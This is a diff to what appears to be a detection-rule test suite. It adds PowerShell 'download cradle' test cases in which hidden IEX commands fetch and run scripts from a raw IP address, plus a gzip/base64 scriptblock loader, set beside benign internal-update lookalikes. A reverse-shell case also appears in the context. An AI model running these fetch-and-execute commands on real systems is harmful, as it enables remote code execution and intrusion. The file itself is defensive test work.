@@ -200,6 +200,20 @@ def cases():
                   parent=CMD)],
             [proc("WS-0042", PS, "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\check.ps1"),
              proc("WS-0042", PS, 'powershell.exe -Command "Get-Service PraxisSrv"')]),
+        "powershell_download_cradle": (
+            [proc("WS-0042", PS, "powershell.exe -nop -w hidden -c \"IEX(New-Object Net.WebClient).downloadString("
+                  "'http://185.220.101.47/a.ps1')\"", parent=CMD),
+             proc("WS-0042", PS, "powershell.exe -noni -nop -w hidden -c &([scriptblock]::create((New-Object "
+                  "System.IO.StreamReader(New-Object System.IO.Compression.GzipStream((New-Object System.IO.MemoryStream"
+                  "(,[System.Convert]::FromBase64String('H4sIAAAAAAAA'))),[System.IO.Compression.CompressionMode]::"
+                  "Decompress))).ReadToEnd()))", parent=CMD)],
+            [proc("WS-0042", PS, "powershell.exe -c \"(New-Object Net.WebClient).DownloadFile('https://updates.medsoft"
+                  ".local/praxis.msi', 'C:\\Temp\\praxis.msi')\""),
+             proc("WS-0042", PS, "powershell.exe -c [Convert]::FromBase64String($env:CERT) | Set-Content cert.der")]),
+        "powershell_download_cradle_scriptblock": (
+            [script_block("WS-0042", "IEX(New-Object Net.WebClient).downloadString('https://185.220.101.47/1.png')")],
+            [script_block("WS-0042", "$wc = New-Object Net.WebClient; $wc.DownloadFile('https://updates.medsoft.local"
+                          "/praxis.msi', 'C:\\Temp\\praxis.msi')")]),
         "powershell_reverse_shell": (
             [proc("WS-0042", PS, 'powershell.exe -nop -c "' + REVERSE + '"', parent=CMD),
              proc("WS-0042", PS, "powershell.exe -enc " +
